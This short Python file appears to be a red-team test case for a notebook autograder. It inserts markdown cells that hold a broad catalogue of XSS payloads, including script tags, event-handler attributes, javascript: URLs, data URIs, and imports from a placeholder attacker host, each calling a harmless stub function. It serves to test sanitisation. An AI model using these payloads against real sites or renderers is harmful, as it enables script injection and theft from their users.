"""Scripts in markdown cells, in every way HTML knows to start one."""

CLASS = "script in pages"
DESERVES = 10

TRICKS = """
# <script>gradestone_attack()</script>
<img src=x onerror="gradestone_attack()"> <svg onload=gradestone_attack()>
<svg><script>gradestone_attack()</script></svg>
<a href="javascript:gradestone_attack()">solution</a> [solution](javascript:gradestone_attack())
<iframe srcdoc="<script>gradestone_attack()</script>"></iframe>
<object data="data:text/html,<script>gradestone_attack()</script>"></object>
<form action="javascript:gradestone_attack()"><button formaction="javascript:gradestone_attack()">go</button>
<meta http-equiv="refresh" content="0;url=javascript:gradestone_attack()">
<base href="https://gradestone-attack.invalid/"><link rel="stylesheet" href="//gradestone-attack.invalid">
<style>@import url(//gradestone-attack.invalid); body {display: none}</style>
<details ontoggle=gradestone_attack() open>
<math><mi//xlink:href="data:x,<script>gradestone_attack()</script>">
<noscript><p title="</noscript><img src=x onerror=gradestone_attack()>"></noscript>
<!--><script>gradestone_attack()</script--> <scr<script>ipt>gradestone_attack()</scr</script>ipt>
[a]: javascript:gradestone_attack()
[solution][a] ![x](x"onerror="gradestone_attack()) <javascript:gradestone_attack()>
$$ \\href{javascript:gradestone_attack()}{x} </script><script>gradestone_attack()</script> $$
"""


def submit(hand_in):
    hand_in.solve("linear_forward")
    for number, line in enumerate([TRICKS, *TRICKS.strip().splitlines()]):
        hand_in.cell(line, kind="markdown", after="end" if number % 2 else "linear_forward")
